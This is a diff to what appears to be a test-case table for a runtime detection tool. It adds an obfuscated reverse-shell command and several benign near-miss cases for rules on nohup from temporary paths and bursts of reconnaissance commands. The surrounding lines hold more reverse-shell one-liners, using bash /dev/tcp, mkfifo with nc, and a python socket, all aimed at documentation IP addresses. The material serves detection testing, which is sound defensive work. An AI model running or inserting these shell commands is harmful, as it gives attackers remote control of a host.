@@ -12,6 +12,7 @@ CASES: Cases = {
             ran("sh", stdio=("socket", "socket", "socket"), peer="203.0.113.9:4444", by=["conmon -c x", "systemd"]),
             ran("sh -i", stdio=("socket", "socket", "socket"), peer="192.0.2.9:443"),
             ran("sh", stdio=("socket", "pipe", "pipe"), peer="192.0.2.9:443"),
+            ran("bash -c '{rm,f};{mkfifo,f};{cat,f}|{sh,-i}|{nc,192.0.2.9,4444}>f'"),
             ran("busybox sh -c 'rm f;mkfifo f;cat f|sh -i 2>&1|nc 192.0.2.9 4444 >f'"),
             ran("bash -c 'bash -i >& /dev/tcp/192.0.2.9/443 0>&1'"),
             ran("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((1,2));os.dup2(s.fileno(),0)'"),
@@ -124,7 +125,13 @@ CASES: Cases = {
     ),
     "RT-0511": (
         [ran("nohup /tmp/.x"), ran("sh -c 'nohup /dev/shm/a &'"), ran("setsid ./.hid", cwd="/opt")],
-        [ran("nohup /opt/app"), ran("sh -c 'nohup app &'"), ran("sh -c 'echo nohup'")],
+        [
+            ran("nohup nice", cwd="/tmp/x"),
+            ran("sh -c 'nohup app'", cwd="/tmp"),
+            ran("nohup /opt/app"),
+            ran("sh -c 'nohup app &'"),
+            ran("sh -c 'echo nohup'"),
+        ],
     ),
     "RT-0512": (
         [
@@ -138,6 +145,7 @@ CASES: Cases = {
         [
             [ran(c, at=n) for n, c in enumerate(["id", "uname -a", "ps aux", "ip a"])],
             [ran("id", at=n) for n in range(6)],
+            [ran(f"mount -t tmpfs none /mnt/{n}", at=n) for n in range(6)],
             [ran(f"/usr/bin/env bash /srv/{n}.sh", at=n) for n in range(6)],
             [ran(c, at=n, session=n) for n, c in enumerate(["id", "uname -a", "ps aux", "ip a", "whoami"])],
             [ran(c, at=n * 100) for n, c in enumerate(["id", "uname -a", "ps aux", "ip a", "whoami"])],
